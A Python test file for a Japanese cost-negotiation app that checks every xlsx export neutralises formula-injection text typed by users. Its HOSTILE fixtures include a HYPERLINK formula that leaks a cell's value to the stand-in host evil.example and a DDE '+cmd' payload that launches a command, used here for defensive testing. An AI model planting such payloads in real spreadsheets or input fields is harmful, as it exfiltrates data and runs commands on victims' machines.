"""Issue 11 finding 3: no text typed by a user becomes a formula in any workbook the app exports.

Hostile text goes into every user text that reaches an export (item title, member names,
category, candidate, indicator label, unit, reference date and source, through the real forms
and the CSV import where there is one); every exported xlsx is read back with openpyxl.
"""

from __future__ import annotations

import io

import sqlalchemy as sa
from openpyxl import load_workbook

from negotiator.consortia.models import Member
from negotiator.costs.models import FrozenCostTable
from negotiator.db import db
from negotiator.exports import neutralise
from negotiator.negotiation.models import AgendaItem
from tests.costs.factories import build_costs
from tests.factories import login

LINK = '=HYPERLINK("http://evil.example/leak?v="&C6,"詳細")'
HOSTILE = {
    "title": "=1+1 費用",
    "member": "@SUM(1+1)",
    "category": "+cmd|' /C calc'!A0",
    "candidate": LINK,
    "label": "-2+3",
    "unit": "=1+2",
    "date": "\t=3+4",
    "source": "\r=5+6",
}
APP_FORMULAS: set[str] = set()  # the app writes no formula of its own


def _hostile_world(app, world):  # noqa: ANN001, ANN202
    cw = build_costs(app, world)
    with app.app_context():
        db.session.get(AgendaItem, cw.item_id).title = HOSTILE["title"]
        db.session.get(Member, world.member_ids[2]).name = HOSTILE["member"]
        db.session.commit()
    client = app.test_client()
    login(client, "facilitator")
    base = f"/items/{cw.item_id}/costs"
    new = client.post(f"{base}/categories/new", data={"name": HOSTILE["category"], "amount": "1"})
    assert new.status_code == 302
    csv = "構成団体,指標,値,単位,基準日,出典\n" + "".join(
        f'{name},"{HOSTILE["label"]}",10,"{HOSTILE["unit"]}","{HOSTILE["date"]}",'
        f'"{HOSTILE["source"]}"\n'
        for name in ("須崎市", "中土佐町", HOSTILE["member"])
    )
    imported = client.post(
        f"{base}/indicators/import",
        data={"file": (io.BytesIO(csv.encode()), "a.csv")},
        content_type="multipart/form-data",
    )
    assert imported.status_code == 302, imported.get_data(as_text=True)
    candidate = {"name": HOSTILE["candidate"], "method": "equal", "remainder_rule": "lead"}
    assert client.post(f"{base}/candidates/new", data=candidate).status_code == 302
    return cw, client


def _cells(data: bytes) -> list:  # noqa: ANN401
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(data: bytes) -> set[str]:
    cells = _cells(data)
    formulas = [c.value for c in cells if c.data_type == "f" and c.value not in APP_FORMULAS]
    assert formulas == []
    return {c.value for c in cells if isinstance(c.value, str)}


def test_every_exported_workbook_holds_hostile_text_as_text(app, world):
    cw, client = _hostile_world(app, world)
    comparison = client.get(f"/items/{cw.item_id}/costs/comparison.xlsx")
    texts = _assert_no_formula(comparison.data)
    for name in ("member", "category", "label", "unit", "date", "source"):
        assert neutralise(HOSTILE[name].strip()) in texts, name  # the import strips cells
    assert any(t.startswith("'" + LINK) for t in texts)
    assert any(t.startswith("'=1+1 費用") for t in texts)
    with app.app_context():
        item = db.session.get(AgendaItem, cw.item_id)
        revision = item.current_revision
    candidate_id = _candidate_id(app, HOSTILE["candidate"])
    proposed = client.post(
        f"/cost-candidates/{candidate_id}/propose", data={"base_revision": revision}
    )
    assert proposed.status_code == 302
    with app.app_context():
        table_id = db.session.scalar(sa.select(FrozenCostTable.id))
    frozen = _assert_no_formula(client.get(f"/cost-tables/{table_id}/export.xlsx").data)
    assert neutralise(LINK) in frozen and neutralise(HOSTILE["unit"]) in frozen


def _candidate_id(app, name: str) -> int:  # noqa: ANN001
    from negotiator.costs.models import CostCandidate

    with app.app_context():
        return db.session.scalar(sa.select(CostCandidate.id).where(CostCandidate.name == name))


def test_neutralise_follows_owasp():
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(trigger + "1") == "'" + trigger + "1"
    assert neutralise("須崎市") == "須崎市" and neutralise("") == ""
